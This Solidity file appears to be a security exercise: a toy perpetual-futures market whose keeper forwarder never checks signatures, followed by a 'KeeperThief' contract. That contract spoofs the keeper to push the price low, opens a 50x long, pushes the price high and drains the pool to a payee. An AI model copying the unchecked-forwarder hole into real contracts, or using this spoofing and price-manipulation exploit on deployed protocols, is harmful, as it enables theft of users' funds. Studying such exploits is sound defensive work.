// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

struct KeeperRequest {
    address from;
    address to;
    bytes data;
}

/// Brings what keepers ask for, and says at the end who asked. It was left for later to look at the signature.
contract KeeperForwarder {
    event Executed(address indexed from, address indexed to, bytes4 what);

    function execute(KeeperRequest calldata request, bytes calldata signature) external {
        signature;
        (bool ok, bytes memory why) = request.to.call(abi.encodePacked(request.data, request.from));
        if (!ok) assembly { revert(add(why, 32), mload(why)) }
        emit Executed(request.from, request.to, bytes4(request.data));
    }
}

/// The keepers' door: prices come in here.
contract PositionKeeper {
    address public immutable forwarder;
    PerpMarket public immutable market;
    mapping(address => bool) public isKeeper;

    constructor(address forwarder_, PerpMarket market_, address keeper) {
        (forwarder, market) = (forwarder_, market_);
        isKeeper[keeper] = true;
    }

    function setPrices(uint256 price) external {
        address who = msg.sender == forwarder ? address(bytes20(msg.data[msg.data.length - 20:])) : msg.sender;
        require(isKeeper[who], "PositionKeeper: forbidden");
        market.setPrice(price);
    }
}

/// Longs on a price that keepers bring, against the dollars of those who provide them.
contract PerpMarket {
    struct Position {
        uint256 margin;
        uint256 size;
        uint256 price;
    }

    Token public immutable dollar;
    address public immutable admin = msg.sender;
    address public keeper;
    uint256 public price;
    uint256 public margins;
    mapping(address => uint256) public provided;
    mapping(address => Position) public positions;

    event PriceUpdated(uint256 price, uint256 at);
    event Provided(address indexed who, uint256 amount);
    event PositionIncreased(address indexed who, uint256 margin, uint256 size, uint256 price);
    event PositionClosed(address indexed who, uint256 paid, uint256 price);

    constructor(Token dollar_) {
        dollar = dollar_;
    }

    function setKeeper(address keeper_) external {
        require(msg.sender == admin, "not the admin");
        keeper = keeper_;
    }

    function setPrice(uint256 price_) external {
        require(msg.sender == keeper, "not the keeper");
        price = price_;
        emit PriceUpdated(price_, block.timestamp);
    }

    function provide(uint256 amount) external {
        dollar.transferFrom(msg.sender, address(this), amount);
        provided[msg.sender] += amount;
        emit Provided(msg.sender, amount);
    }

    function openLong(uint256 margin, uint256 leverage) external {
        require(leverage <= 50, "too much leverage");
        require(positions[msg.sender].size == 0, "one at a time");
        dollar.transferFrom(msg.sender, address(this), margin);
        margins += margin;
        positions[msg.sender] = Position(margin, margin * leverage, price);
        emit PositionIncreased(msg.sender, margin, margin * leverage, price);
    }

    /// Pays what a position is worth, and as much of it as there is.
    function closeLong() external {
        Position memory position = positions[msg.sender];
        delete positions[msg.sender];
        uint256 worth = position.margin + position.size * price / position.price;
        uint256 paid = worth > position.size ? worth - position.size : 0;
        uint256 most = dollar.balanceOf(address(this)) - (margins - position.margin);
        if (paid > most) paid = most;
        margins -= position.margin;
        dollar.transfer(msg.sender, paid);
        emit PositionClosed(msg.sender, paid, price);
    }
}

struct KeeperJob {
    KeeperForwarder forwarder;
    PositionKeeper keeper;
    address as_;
    PerpMarket market;
    Pool pool;
    uint256 low;
    uint256 high;
    address payee;
}

/// Says a price, buys, says another, sells.
contract KeeperThief {
    function run(KeeperJob calldata job) external payable {
        Token dollar = job.market.dollar();
        uint256 margin = Shop.buy(job.pool, msg.value);
        dollar.approve(address(job.market), margin);
        uint256 usual = job.market.price();
        say(job, job.low);
        job.market.openLong(margin, 50);
        say(job, job.high);
        job.market.closeLong();
        say(job, usual);
        dollar.transfer(job.payee, dollar.balanceOf(address(this)));
    }

    function say(KeeperJob calldata job, uint256 price) private {
        bytes memory data = abi.encodeCall(job.keeper.setPrices, (price));
        job.forwarder.execute(KeeperRequest(job.as_, address(job.keeper), data), "");
    }
}
